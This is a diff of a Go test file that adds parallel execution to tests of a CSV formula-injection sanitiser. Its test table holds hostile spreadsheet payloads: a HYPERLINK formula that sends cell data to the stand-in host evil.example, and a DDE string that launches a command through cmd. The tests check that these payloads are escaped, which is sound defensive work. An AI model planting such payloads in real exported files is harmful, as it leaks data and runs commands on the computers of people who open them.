@@ -10,6 +10,7 @@ import (
 )
 
 func TestFormulaSafe(t *testing.T) {
+	t.Parallel()
 	for _, tc := range []struct{ in, want string }{
 		{`=HYPERLINK("http://evil.example/?d="&B2,"x")`, `'=HYPERLINK("http://evil.example/?d="&B2,"x")`},
 		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
@@ -38,6 +39,7 @@ func TestFormulaSafe(t *testing.T) {
 }
 
 func TestCSVWriterNeutralisesEveryCell(t *testing.T) {
+	t.Parallel()
 	var buf bytes.Buffer
 	w := text.NewCSVWriter(&buf)
 	if err := w.Write([]string{"=1+1", "-12.50", "ok", "@x"}); err != nil {
